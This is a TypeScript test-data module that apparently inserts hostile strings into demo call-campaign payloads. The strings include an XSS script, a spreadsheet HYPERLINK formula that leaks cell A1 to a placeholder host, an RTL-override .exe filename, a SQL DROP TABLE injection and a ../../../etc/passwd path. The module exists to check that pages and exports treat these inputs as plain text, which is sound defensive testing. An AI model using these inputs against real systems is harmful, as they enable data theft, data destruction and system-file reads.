import type { DemoVariable } from '../campaign';
import type { Payload } from '../build-payload';
import type { Trap } from './trap';

/** Puts a text wherever a page or an export would show it. */
function say(text: string): Trap['bend'] {
  return (payload: Payload) => {
    payload.summary = text;
    payload.last_answer = text;
    payload.full_transcript = `${String(payload.full_transcript)}\nuser: ${text}`;
    const mapped = payload.mapped_answers as { messages?: unknown[] } | null;
    const said = { role: 'user', content: text, timestamp: '' };
    if (mapped?.messages) payload.mapped_answers = { ...mapped, messages: [...mapped.messages, said] };
    if (Array.isArray(payload.extra_variables)) {
      payload.extra_variables = [...(payload.extra_variables as DemoVariable[]), { name: 'Заметка', value: text, column_number: 90 }];
    }
  };
}

/** Texts that would do harm where they are not treated as text (trap 34); a couple of rows each. */
export const HOSTILE_TRAPS: readonly Trap[] = [
  { kind: 'HTML', every: 1_201, answered: true, bend: say('<img src=x onerror=alert(1)><script>alert("xss")</script>') },
  { kind: 'formula', every: 1_217, answered: true, bend: say('=HYPERLINK("http://example.invalid/?"&A1,"нажмите")') },
  { kind: 'right-to-left override', every: 1_223, answered: true, bend: say('Договор \u202Efdp.exe\u202C и مرحبا') },
  { kind: 'NUL and lone surrogate', every: 1_229, answered: true, bend: say('Сбой связи\u0000 и половина знака \uD83D конец') },
  { kind: 'SQL', every: 1_231, answered: true, bend: say('\'); DROP TABLE calls; --') },
  {
    kind: 'recording key climbs out', every: 1_237, answered: true,
    bend: (payload) => void (payload.audio_recording_url = '../../../etc/passwd'),
  },
  {
    kind: 'recording key is a URL', every: 1_249, answered: true,
    bend: (payload) => void (payload.audio_recording_url = 'https://example.invalid/recording.mp3'),
  },
];
